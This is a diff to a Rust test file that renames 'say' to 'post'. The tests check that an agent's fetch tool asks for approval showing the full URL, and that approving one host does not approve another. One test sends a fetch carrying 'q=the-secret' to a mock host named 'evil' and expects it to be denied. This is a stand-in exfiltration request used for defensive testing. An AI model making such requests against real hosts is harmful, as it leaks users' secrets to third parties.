@@ -40,7 +40,7 @@ async fn h02_a_fetch_shows_its_whole_address_before_it_is_made() {
     let server = fetching(&web, "ask").await;
     let mut client = server.connect().await;
     let address = web.url("/collect?what=the-whole-of-it");
-    let turn = client.say(&format!("Fetch {address}")).await;
+    let turn = client.post(&format!("Fetch {address}")).await;
 
     let asked = client.until_type("approval-request").await;
     let before = web.requests();
@@ -64,13 +64,13 @@ async fn h02_leave_to_fetch_from_one_host_is_no_leave_to_send_to_another() {
     let mut client = server.connect().await;
     // Baseline: nothing but the question stands before the other host.
     assert_eq!(unguarded(&evil, "/baseline").await.text(), "evil");
-    let allowed = client.say(&format!("Fetch {}", ours.url("/one"))).await;
+    let allowed = client.post(&format!("Fetch {}", ours.url("/one"))).await;
     let asked = client.until_type("approval-request").await;
     client.send(json!({"type": "approve-tool", "callId": asked["callId"], "decision": "allow-session"})).await;
     client.end_of(&allowed).await.answered();
 
     let again = client.ask(&format!("Fetch {}", ours.url("/two?q=more"))).await.answered();
-    let other = client.say(&format!("Fetch {}", evil.url("/?q=the-secret"))).await;
+    let other = client.post(&format!("Fetch {}", evil.url("/?q=the-secret"))).await;
     let asked_again =
         client.until("the other question", |f| f["type"] == "approval-request" && f["callId"] != asked["callId"]).await;
     client.send(json!({"type": "approve-tool", "callId": asked_again["callId"], "decision": "deny"})).await;
